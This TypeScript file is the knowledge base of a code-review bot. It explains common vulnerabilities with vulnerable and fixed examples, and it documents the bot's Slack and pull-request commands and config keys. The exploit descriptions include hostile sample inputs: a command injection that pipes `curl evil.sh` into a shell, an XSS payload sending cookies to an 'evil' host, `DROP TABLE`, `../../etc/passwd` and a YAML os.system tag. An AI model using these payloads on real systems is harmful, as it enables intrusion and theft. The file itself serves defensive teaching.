/**
 * The knowledge base questions are answered from: data only (no logic), one entry per finding
 * category the analysis knows, per empathy level, per `/empathy` command and per key of
 * `.github/empathy.yml`. `match.ts` scores a question against the keywords; tests check that
 * every category, level, command and configuration key has its entry and that the links are the
 * CWE entries and OWASP cheat sheets named.
 */
import type { Category } from "../analysis/types.js";

export interface CodeExample {
  /** The fence's language tag. */
  language: string;
  before: string;
  after: string;
}

export interface CategoryEntry {
  kind: "category";
  id: Category;
  title: string;
  /** Words and phrases a question about it uses (lower case); a phrase counts more than a word. */
  keywords: string[];
  what: string;
  exploit: string;
  fix: string;
  /** What happens if code with this problem ships (the answer's prediction). */
  ifShips: string;
  example: CodeExample;
  /** CWE id ("CWE-89"), when the category is a weakness CWE names. */
  cwe?: string;
  link: { label: string; url: string };
}

export interface TopicEntry {
  kind: "level" | "command" | "config" | "about";
  id: string;
  title: string;
  keywords: string[];
  text: string;
}

export type KnowledgeEntry = CategoryEntry | TopicEntry;

const cwe = (n: number) => ({ label: `CWE-${n}`, url: `https://cwe.mitre.org/data/definitions/${n}.html` });
const owasp = (name: string, file: string) => ({
  label: `OWASP ${name} Cheat Sheet`,
  url: `https://cheatsheetseries.owasp.org/cheatsheets/${file}_Cheat_Sheet.html`,
});

export const CATEGORY_KNOWLEDGE: readonly CategoryEntry[] = [
  {
    kind: "category",
    id: "sql-injection",
    title: "SQL injection",
    keywords: [
      "sql injection",
      "sqli",
      "sql",
      "query",
      "queries",
      "database",
      "parameterised",
      "parameterized",
      "prepared statement",
      "placeholder",
    ],
    what: "SQL text is built by pasting a runtime value into the query string, so the value is read as SQL rather than as data.",
    exploit:
      "Whoever controls the value can close the string and add their own SQL: `1 OR 1=1` returns every row, `1; DROP TABLE users` destroys data, and a UNION reads other tables.",
    fix: "Pass the values apart from the SQL with the driver's placeholders (`$1` with pg, `?` with mysql and sqlite3, `%s` with psycopg), or use a query builder that does; never concatenate or format values into SQL.",
    ifShips: "if this ships, anyone who can reach the value can read or change any row the database user can",
    example: {
      language: "javascript",
      before: 'db.query("SELECT * FROM users WHERE id = " + req.params.id);',
      after: 'db.query("SELECT * FROM users WHERE id = $1", [req.params.id]);',
    },
    cwe: "CWE-89",
    link: owasp("SQL Injection Prevention", "SQL_Injection_Prevention"),
  },
  {
    kind: "category",
    id: "command-injection",
    title: "Command injection",
    keywords: [
      "command injection",
      "os command",
      "shell",
      "exec",
      "execsync",
      "child_process",
      "subprocess",
      "os.system",
      "popen",
      "spawn",
      "execfile",
    ],
    what: "A shell command line is built from a runtime value and run through a shell.",
    exploit:
      "Shell metacharacters in the value (`;`, `&&`, `|`, `$(...)`, backticks) start other commands with the server's rights: `x; curl evil.sh | sh`.",
    fix: "Run the program directly with an argument array (`execFile`/`spawn` in Node, `subprocess.run([...])` without `shell=True` in Python) so no shell parses the value; validate values against an allow-list where you can.",
    ifShips: "if this ships, whoever controls the value can run any command on the server",
    example: {
      language: "javascript",
      before: 'exec("git log " + branch, callback);',
      after: 'execFile("git", ["log", branch], callback);',
    },
    cwe: "CWE-78",
    link: owasp("OS Command Injection Defense", "OS_Command_Injection_Defense"),
  },
  {
    kind: "category",
    id: "code-injection",
    title: "Code injection (eval)",
    keywords: ["code injection", "eval", "new function", "exec(", "settimeout string", "dynamic code", "vm.runin"],
    what: "A string built from a runtime value is run as code (`eval`, `new Function`, Python's `eval`/`exec`).",
    exploit: "Anyone who controls part of the string runs their own code inside the process, with all its data and credentials.",
    fix: "Do not evaluate strings: parse data with a parser (`JSON.parse`, `ast.literal_eval`), and map names to functions with a lookup table.",
    ifShips: "if this ships, whoever controls the value runs their own code in the process",
    example: {
      language: "javascript",
      before: 'const settings = eval("(" + body + ")");',
      after: "const settings = JSON.parse(body);",
    },
    cwe: "CWE-94",
    link: cwe(94),
  },
  {
    kind: "category",
    id: "xss",
    title: "Cross-site scripting (XSS)",
    keywords: [
      "xss",
      "cross-site scripting",
      "cross site scripting",
      "innerhtml",
      "outerhtml",
      "document.write",
      "dangerouslysetinnerhtml",
      "html injection",
      "escape html",
      "sanitize",
    ],
    what: "Text from a user is inserted into a page as HTML, so the browser runs any markup or script it contains.",
    exploit:
      "A value like `<img src=x onerror=fetch('//evil/'+document.cookie)>` runs in the victim's session: it can read the page, steal tokens and act as the user.",
    fix: "Insert text as text (`textContent`, a framework's escaped binding); when HTML is really needed, sanitise it with a maintained sanitiser such as DOMPurify and set a Content Security Policy.",
    ifShips: "if this ships, a crafted value runs script in other users' browsers with their session",
    example: {
      language: "javascript",
      before: "element.innerHTML = comment.text;",
      after: "element.textContent = comment.text;",
    },
    cwe: "CWE-79",
    link: owasp("Cross Site Scripting Prevention", "Cross_Site_Scripting_Prevention"),
  },
  {
    kind: "category",
    id: "path-traversal",
    title: "Path traversal",
    keywords: ["path traversal", "directory traversal", "../", "dot dot", "file path", "readfile", "sendfile", "open(", "zip slip"],
    what: "A file path is built from a runtime value without confining it to a base directory.",
    exploit:
      "`../` segments or an absolute path in the value reach files outside the intended folder: `../../etc/passwd`, configuration, keys.",
    fix: "Resolve the path against the base directory and refuse it unless the result still starts with that directory; better, map ids to files instead of taking names.",
    ifShips: "if this ships, whoever controls the name can read (or write) files outside the intended folder",
    example: {
      language: "javascript",
      before: "res.sendFile(path.join(UPLOADS, req.query.name));",
      after: [
        "const file = path.resolve(UPLOADS, req.query.name);",
        "if (!file.startsWith(path.resolve(UPLOADS) + path.sep)) return res.sendStatus(400);",
        "res.sendFile(file);",
      ].join("\n"),
    },
    cwe: "CWE-22",
    link: cwe(22),
  },
  {
    kind: "category",
    id: "insecure-deserialization",
    title: "Insecure deserialisation",
    keywords: [
      "deserialization",
      "deserialisation",
      "unsafe yaml",
      "yaml.load",
      "yaml",
      "pickle",
      "unpickle",
      "marshal",
      "safe_load",
      "serialize",
      "node-serialize",
    ],
    what: "Data from outside is loaded with a deserialiser that can build arbitrary objects (`pickle`, `yaml.load` with an unsafe loader, `node-serialize`).",
    exploit:
      "A crafted document makes the loader construct objects whose construction runs code, e.g. a YAML `!!python/object/apply:os.system` tag.",
    fix: "Load untrusted data with a data-only loader (`yaml.safe_load`, `JSON`), never `pickle` from outside; validate the result's shape after loading.",
    ifShips: "if this ships, a crafted document runs code in the process that loads it",
    example: {
      language: "python",
      before: "config = yaml.load(request.data, Loader=yaml.Loader)",
      after: "config = yaml.safe_load(request.data)",
    },
    cwe: "CWE-502",
    link: owasp("Deserialization", "Deserialization"),
  },
  {
    kind: "category",
    id: "hardcoded-secret",
    title: "Hard-coded secret",
    keywords: [
      "secret",
      "hardcoded",
      "hard-coded",
      "hard coded",
      "api key",
      "apikey",
      "token",
      "password",
      "credential",
      "private key",
      "aws key",
      "leaked",
    ],
    what: "A password, token or key is written in the source, so everyone who can read the repository (and its history) has it.",
    exploit:
      "Leaked repositories, forks, logs and build artefacts carry the value; attackers scan public code for key formats within minutes of a push.",
    fix: "Revoke and rotate the value first (it stays in git history), then read it at run time from the environment or a secrets manager, and add secret scanning to CI.",
    ifShips: "if this ships, the credential is exposed to everyone who can read the code or its history until it is rotated",
    example: {
      language: "javascript",
      before: 'const stripe = new Stripe("sk_live_…");',
      // Destructured: the docs check reads `env.NAME` in src/ as a variable the app itself reads.
      after:
        "const { STRIPE_SECRET_KEY } = process.env; // set by the deployment or a secrets manager\nconst stripe = new Stripe(STRIPE_SECRET_KEY);",
    },
    cwe: "CWE-798",
    link: owasp("Secrets Management", "Secrets_Management"),
  },
  {
    kind: "category",
    id: "weak-crypto",
    title: "Weak cryptography",
    keywords: [
      "weak crypto",
      "cryptography",
      "md5",
      "sha1",
      "sha-1",
      "des",
      "rc4",
      "ecb",
      "hash password",
      "password hash",
      "cipher",
      "encryption",
    ],
    what: "A broken or unsuitable algorithm protects data: MD5 or SHA-1 for integrity or passwords, DES/RC4, ECB mode, a fast hash for passwords.",
    exploit:
      "Collisions are practical for MD5 and SHA-1, fast hashes are brute-forced offline at billions per second, ECB leaks patterns in the plaintext.",
    fix: "Use SHA-256 or better for integrity, AES-GCM (or ChaCha20-Poly1305) for encryption, and a password hash (Argon2id, scrypt, bcrypt) for passwords.",
    ifShips: "if this ships, the protected data or passwords can be forged or recovered by anyone who obtains them",
    example: {
      language: "javascript",
      before: 'const digest = crypto.createHash("md5").update(password).digest("hex");',
      after: "const digest = await argon2.hash(password); // or crypto.scrypt with a random salt",
    },
    cwe: "CWE-327",
    link: owasp("Cryptographic Storage", "Cryptographic_Storage"),
  },
  {
    kind: "category",
    id: "ssrf",
    title: "Server-side request forgery (SSRF)",
    keywords: [
      "ssrf",
      "server-side request forgery",
      "server side request forgery",
      "fetch url",
      "request url",
      "metadata",
      "169.254.169.254",
      "webhook url",
      "proxy",
    ],
    what: "The server fetches a URL that comes from the user, without limiting where it may go.",
    exploit:
      "The URL points inside the network: cloud metadata (`http://169.254.169.254/`) hands out credentials, internal admin services answer without authentication.",
    fix: "Allow only known hosts and schemes; resolve the host and refuse private, loopback and link-local addresses (also after redirects, or follow none).",
    ifShips: "if this ships, anyone can make the server call internal services and cloud metadata on their behalf",
    example: {
      language: "javascript",
      before: "const res = await fetch(req.query.url);",
      after: [
        "const url = new URL(req.query.url);",
        'if (url.protocol !== "https:" || !ALLOWED_HOSTS.has(url.hostname)) return res.sendStatus(400);',
        'const res = await fetch(url, { redirect: "error" });',
      ].join("\n"),
    },
    cwe: "CWE-918",
    link: owasp("Server Side Request Forgery Prevention", "Server_Side_Request_Forgery_Prevention"),
  },
  {
    kind: "category",
    id: "open-redirect",
    title: "Open redirect",
    keywords: ["open redirect", "redirect", "unvalidated redirect", "returnurl", "return_to", "next url", "location header"],
    what: "The app redirects to a URL taken from the request without checking where it leads.",
    exploit:
      "A link on your trusted domain (`/login?next=https://evil.example`) sends users to a phishing page, or leaks tokens in the redirect.",
    fix: "Redirect only to relative paths of your own site or to an allow-list of destinations; map ids to URLs instead of taking URLs.",
    ifShips: "if this ships, links on your domain can send your users to an attacker's page",
    example: {
      language: "javascript",
      before: "res.redirect(req.query.next);",
      after: 'const next = String(req.query.next ?? "/");\nres.redirect(next.startsWith("/") && !next.startsWith("//") ? next : "/");',
    },
    cwe: "CWE-601",
    link: owasp("Unvalidated Redirects and Forwards", "Unvalidated_Redirects_and_Forwards"),
  },
  {
    kind: "category",
    id: "insecure-tls",
    title: "Disabled TLS verification",
    keywords: [
      "tls",
      "ssl",
      "certificate",
      "verify=false",
      "rejectunauthorized",
      "node_tls_reject_unauthorized",
      "https verification",
      "self-signed",
      "insecure tls",
    ],
    what: "Certificate verification is turned off (`rejectUnauthorized: false`, `verify=False`, `NODE_TLS_REJECT_UNAUTHORIZED=0`), so any certificate is accepted.",
    exploit:
      "Anyone on the network path (Wi-Fi, proxy, compromised router) can impersonate the server and read or change the traffic, credentials included.",
    fix: 'Keep verification on; for a private CA pass its certificate (`ca:` in Node, `verify="/path/ca.pem"` in requests) instead of disabling checks.',
    ifShips: "if this ships, anyone on the network path can read and change this traffic",
    example: {
      language: "python",
      before: "requests.get(url, verify=False)",
      after: 'requests.get(url, verify="/etc/ssl/certs/internal-ca.pem")',
    },
    cwe: "CWE-295",
    link: owasp("Transport Layer Security", "Transport_Layer_Security"),
  },
  {
    kind: "category",
    id: "insecure-randomness",
    title: "Insecure randomness",
    keywords: [
      "insecure randomness",
      "random",
      "randomness",
      "math.random",
      "random.random",
      "prng",
      "token generation",
      "session id",
      "predictable",
      "uuid",
    ],
    what: "A value that must be unguessable (token, password reset code, session id, key) comes from a non-cryptographic generator such as `Math.random()` or Python's `random`.",
    exploit: "These generators are predictable from a few outputs; an attacker who sees some tokens can compute the next ones.",
    fix: "Use the cryptographic generator: `crypto.randomBytes` / `crypto.randomUUID` in Node, `secrets.token_urlsafe` in Python.",
    ifShips: "if this ships, tokens made this way can be predicted and accounts taken over",
    example: {
      language: "javascript",
      before: "const resetToken = Math.random().toString(36).slice(2);",
      after: 'const resetToken = crypto.randomBytes(32).toString("base64url");',
    },
    cwe: "CWE-338",
    link: cwe(338),
  },
  {
    kind: "category",
    id: "debug-leftover",
    title: "Debug leftovers",
    keywords: ["debug", "debugger", "console.log", "print statement", "pdb", "breakpoint", "leftover", "todo"],
    what: "Debugging code is left in a change: `debugger`, `console.log` of data, `pdb.set_trace()`, `breakpoint()`.",
    exploit:
      "A breakpoint halts a server in production; logged values leak personal data or secrets into log systems many people can read.",
    fix: "Remove it, or log through the app's logger at debug level; make a lint rule (`no-debugger`, `no-console`) fail CI.",
    ifShips: "if this ships, a stray breakpoint can hang the service and logged data can leak",
    example: {
      language: "python",
      before: "import pdb; pdb.set_trace()\nprocess(order)",
      after: 'log.debug("processing order %s", order.id)\nprocess(order)',
    },
    cwe: "CWE-489",
    link: cwe(489),
  },
  {
    kind: "category",
    id: "missing-tests",
    title: "Missing tests",
    keywords: ["missing tests", "tests", "test", "unit test", "coverage", "untested", "no tests"],
    what: "Code changed but no test did, so nothing shows the change works or keeps working.",
    exploit: "Not an attack: the next change breaks this behaviour silently and it is found by users instead of CI.",
    fix: "Add a test that fails without the change and passes with it; make tests a required CI check.",
    ifShips: "if this ships, a later change can break it without any check noticing",
    example: {
      language: "javascript",
      before: 'export function slug(title) { return title.toLowerCase().replace(/\\s+/g, "-"); }',
      after: 'test("slug joins words with dashes", () => {\n  expect(slug("Hello World")).toBe("hello-world");\n});',
    },
    link: { label: "The practical test pyramid (Martin Fowler)", url: "https://martinfowler.com/articles/practical-test-pyramid.html" },
  },
  {
    kind: "category",
    id: "breaking-change",
    title: "Breaking change",
    keywords: [
      "breaking change",
      "breaking",
      "api change",
      "backward compatible",
      "backwards compatible",
      "compatibility",
      "removed endpoint",
      "drop column",
      "migration",
    ],
    what: "A change removes or changes something others depend on: an exported function, an API route or field, a database column.",
    exploit: "Not an attack: callers that were not changed with it fail at run time, often only after deployment.",
    fix: "Deprecate before removing, keep the old shape working for a release, version the API, and run migrations in expand-then-contract steps.",
    ifShips: "if this ships, clients and code that still use the old shape fail after deployment",
    example: {
      language: "sql",
      before: "ALTER TABLE users DROP COLUMN email;",
      after:
        "-- release 1: stop reading and writing users.email (keep the column)\n-- release 2, once nothing uses it:\nALTER TABLE users DROP COLUMN email;",
    },
    link: { label: "Semantic Versioning", url: "https://semver.org/" },
  },
  {
    kind: "category",
    id: "dependency-risk",
    title: "Dependency risk",
    keywords: [
      "dependency",
      "dependencies",
      "package",
      "npm",
      "pip",
      "version",
      "pinning",
      "lockfile",
      "vulnerable dependency",
      "supply chain",
      "typosquatting",
    ],
    what: "A dependency is added or changed in a risky way: an unpinned or wildcard version, a git URL, a known-vulnerable version, a new install script.",
    exploit:
      "A compromised or typo-squatted package runs its code at install time and in production; an unpinned range pulls a bad release automatically.",
    fix: "Pin versions with a lockfile, review new packages (maintainers, downloads, install scripts), and run an audit and an update bot in CI.",
    ifShips: "if this ships, the build can pull a different, possibly malicious, version without anyone changing the code",
    example: {
      language: "json",
      before: '"dependencies": { "left-pad": "*" }',
      after: '"dependencies": { "left-pad": "1.3.0" }',
    },
    cwe: "CWE-1104",
    link: owasp("Vulnerable Dependency Management", "Vulnerable_Dependency_Management"),
  },
  {
    kind: "category",
    id: "large-change",
    title: "Large change",
    keywords: ["large change", "large pull request", "big pr", "too big", "split", "size", "lines changed"],
    what: "The pull request changes more lines than a reviewer can read carefully (the repository's `analysis.large_change_lines`).",
    exploit: "Not an attack: defects and risky lines hide in volume, and reviews of large changes are mostly skimmed.",
    fix: "Split it into steps that each build and pass tests (refactor first, then behaviour), and ship unfinished parts behind a feature flag.",
    ifShips: "if this ships as one piece, problems in it are harder to find and to roll back",
    example: {
      language: "text",
      before: "1 pull request: refactor + new feature + formatting (2,400 lines)",
      after: "PR 1: refactor (no behaviour change)\nPR 2: the feature, behind a flag\nPR 3: formatting only",
    },
    link: {
      label: "Google engineering practices: small CLs",
      url: "https://google.github.io/eng-practices/review/developer/small-cls.html",
    },
  },
];

export const LEVEL_KNOWLEDGE: readonly TopicEntry[] = [
  {
    kind: "level",
    id: "1",
    title: "Level 1 · reactive",
    keywords: ["level 1", "reactive"],
    text: "Level 1 (reactive) restates what was asked or changed, in one line. It is the answer when nothing else is warranted, or when the target level is 1.",
  },
  {
    kind: "level",
    id: "2",
    title: "Level 2 · guided",
    keywords: ["level 2", "guided", "clarifying", "clarification"],
    text: "Level 2 (guided) asks clarifying questions before going further: an empty description, code changed without tests, a title that does not say what changes.",
  },
  {
    kind: "level",
    id: "3",
    title: "Level 3 · proactive",
    keywords: ["level 3", "proactive", "findings", "suggestion"],
    text: "Level 3 (proactive) reports findings you did not ask about: security problems and risky code, each with why it matters and how to fix it, with a suggested change where the fix is mechanical.",
  },
  {
    kind: "level",
    id: "4",
    title: "Level 4 · anticipatory",
    keywords: ["level 4", "anticipatory", "prediction", "predictions", "predict"],
    text: "Level 4 (anticipatory) predicts what will break later (a dropped column still read, a breaking API change, a risky dependency) with a confidence; high-confidence predictions become issues.",
  },
  {
    kind: "level",
    id: "5",
    title: "Level 5 · transformative",
    keywords: ["level 5", "transformative", "systemic", "rule of three", "recurring"],
    text: "Level 5 (transformative) fires when the same kind of finding recurs in three pull requests (the rule of three): it proposes fixing the class of problem once, with an issue.",
  },
  {
    kind: "about",
    id: "levels",
    title: "Empathy levels",
    keywords: ["empathy level", "levels", "level", "confidence", "trust", "target_level"],
    text: "Every answer has a level from 1 to 5: 1 reactive (a summary), 2 guided (questions), 3 proactive (findings), 4 anticipatory (predictions), 5 transformative (a systemic fix for a recurring pattern). The level is the highest the interaction warrants, capped by the repository's `target_level` and, below 25% trust, at 3. Confidence is the most confident prediction's or finding's.",
  },
];

export const COMMAND_KNOWLEDGE: readonly TopicEntry[] = [
  {
    kind: "command",
    id: "slack-ask",
    title: "/empathy <question> (Slack)",
    keywords: ["ask", "question", "slack", "how do i ask", "paste code"],
    text: '`/empathy <question>` answers a question. Paste code in backticks or after a colon (`/empathy is this safe: db.query("…" + id)`) and it is analysed like a pull request, with the fixed code; without code the answer comes from this knowledge base.',
  },
  {
    kind: "command",
    id: "slack-review",
    title: "/empathy review <pull request URL> (Slack)",
    keywords: ["review", "review a pull request", "review url", "slack review"],
    text: "`/empathy review https://github.com/owner/repo/pull/123` reviews that pull request through the app's installation (the same review as on a push) and replies with the summary, if the operator allowed this workspace and channel to reach the repository.",
  },
  {
    kind: "command",
    id: "slack-status",
    title: "/empathy status [owner/repo [github-login]] (Slack)",
    keywords: ["status", "learned patterns", "my trust", "recent predictions"],
    text: "`/empathy status [owner/repo [github-login]]` shows trust, the learned patterns and the recent prediction issues (of the repositories this workspace may reach).",
  },
  {
    kind: "command",
    id: "pr-explain",
    title: "/empathy explain <finding id> (pull request)",
    keywords: ["explain", "finding id", "what does this finding mean", "explain finding"],
    text: "In a pull request comment, `/empathy explain <finding id>` explains that finding: the code at its line, why it matters and the fix (a suggested change when one applies). The id is shown under each inline comment.",
  },
  {
    kind: "command",
    id: "pr-dismiss",
    title: "/empathy dismiss <finding id> (pull request)",
    keywords: ["dismiss", "false positive", "ignore finding", "suppress"],
    text: "`/empathy dismiss <finding id>` marks a finding as a false positive: it is not reported again in the repository and the bot trusts that kind of finding a little less. It needs write access.",
  },
  {
    kind: "command",
    id: "pr-review",
    title: "/empathy review (pull request)",
    keywords: ["review again", "re-review", "rerun", "force review"],
    text: "`/empathy review` in a pull request comment reviews the latest commit again now (at most once every 5 minutes per pull request by default).",
  },
  {
    kind: "command",
    id: "pr-config",
    title: "/empathy config (pull request)",
    keywords: ["config command", "configuration in effect", "show config"],
    text: "`/empathy config` in a pull request comment shows the configuration in effect (`.github/empathy.yml` with defaults) and any problems in the file.",
  },
  {
    kind: "command",
    id: "help",
    title: "/empathy help",
    keywords: ["help", "commands", "what can you do", "usage"],
    text: "`/empathy help` lists the commands: in Slack `/empathy <question>`, `review <URL>`, `status`; in a pull request `explain`, `dismiss`, `review`, `config`.",
  },
];

export const CONFIG_KNOWLEDGE: readonly TopicEntry[] = [
  {
    kind: "config",
    id: "target_level",
    title: "target_level",
    keywords: ["target_level", "target level", "max level"],
    text: "`target_level` (1–5, default 5): the highest empathy level the bot may act at in this repository.",
  },
  {
    kind: "config",
    id: "review.enabled",
    title: "review.enabled",
    keywords: ["review.enabled", "disable review", "turn off"],
    text: "`review.enabled` (default true): review pull requests at all.",
  },
  {
    kind: "config",
    id: "review.drafts",
    title: "review.drafts",
    keywords: ["drafts", "draft pull request"],
    text: "`review.drafts` (default false): review draft pull requests; when false, drafts wait until ready for review.",
  },
  {
    kind: "config",
    id: "review.max_inline_comments",
    title: "review.max_inline_comments",
    keywords: ["max_inline_comments", "inline comments", "too many comments"],
    text: "`review.max_inline_comments`: the most inline comments in one review; the rest go in the summary.",
  },
  {
    kind: "config",
    id: "review.min_severity",
    title: "review.min_severity",
    keywords: ["min_severity", "severity", "noise", "less noise"],
    text: "`review.min_severity`: findings below this severity are not commented on or counted in the summary (info, low, medium, high, critical).",
  },
  {
    kind: "config",
    id: "review.labels",
    title: "review.labels",
    keywords: ["labels", "empathy label"],
    text: "`review.labels` (default true): add `empathy: …` labels to reviewed pull requests.",
  },
  {
    kind: "config",
    id: "review.ignore_authors",
    title: "review.ignore_authors",
    keywords: ["ignore_authors", "bots", "dependabot", "skip author"],
    text: "`review.ignore_authors`: globs of authors (e.g. `dependabot[bot]`) whose pull requests are not reviewed.",
  },
  {
    kind: "config",
    id: "issues.enabled",
    title: "issues.enabled",
    keywords: ["issues.enabled", "prediction issues"],
    text: "`issues.enabled` (default true): open an issue for each high-confidence prediction.",
  },
  {
    kind: "config",
    id: "issues.min_confidence",
    title: "issues.min_confidence",
    keywords: ["min_confidence"],
    text: "`issues.min_confidence` (default 0.85): the lowest prediction confidence that opens an issue.",
  },
  {
    kind: "config",
    id: "issues.labels",
    title: "issues.labels",
    keywords: ["issue labels"],
    text: '`issues.labels` (default `["empathy: prediction"]`): labels on prediction issues.',
  },
  {
    kind: "config",
    id: "ignore",
    title: "ignore",
    keywords: ["ignore", "exclude files", "skip files", "vendor"],
    text: "`ignore`: globs of files not to review.",
  },
  {
    kind: "config",
    id: "analysis",
    title: "analysis.*",
    keywords: [
      "analysis",
      "large_change_lines",
      "max_files",
      "max_file_bytes",
      "max_line_length",
      "max_nesting_depth",
      "time budget",
      "file_time_budget_seconds",
      "review_time_budget_seconds",
    ],
    text: "`analysis.*` bounds the analysis: `large_change_lines` (a pull request above it is predicted hard to review), `max_files` and `max_file_bytes` (whole files fetched for context), `max_line_length` and `max_nesting_depth` (files beyond are skipped as generated or too deep), `file_time_budget_seconds` and `review_time_budget_seconds`.",
  },
  {
    kind: "config",
    id: "paths",
    title: "paths",
    keywords: ["paths", "per folder", "folder", "glob min_severity"],
    text: "`paths`: a list of `{ glob, min_severity, target_level }` giving folders their own settings; the most specific entry wins, and the pull request acts at the highest level among its files.",
  },
  {
    kind: "config",
    id: "checks",
    title: "checks.*",
    keywords: ["checks", "check run", "fail_on", "code_scanning", "sarif", "ci"],
    text: '`checks.fail_on`: the severity from which the "Empathy review" check run fails; `checks.code_scanning`: also upload the findings to GitHub code scanning as SARIF (needs `security_events: write`).',
  },
  {
    kind: "config",
    id: "llm",
    title: "llm",
    keywords: ["llm", "language model", "ai", "gpt", "openai"],
    text: "`llm` (default true): lets the operator's language model, when one is set up, phrase answers and the pull request walkthrough from the analysis; `llm: false` never sends this repository's code or findings to it. Without an operator's model it changes nothing.",
  },
  {
    kind: "about",
    id: "config",
    title: ".github/empathy.yml",
    keywords: ["config", "configuration", "empathy.yml", ".github/empathy.yml", "configure", "settings"],
    text: "A repository configures the bot in `.github/empathy.yml`: `target_level`, `review.*` (enabled, drafts, max_inline_comments, min_severity, labels, ignore_authors), `issues.*` (enabled, min_confidence, labels), `ignore`, `analysis.*`, `paths`, `checks.*` and `llm`. `/empathy config` in a pull request shows what is in effect.",
  },
];
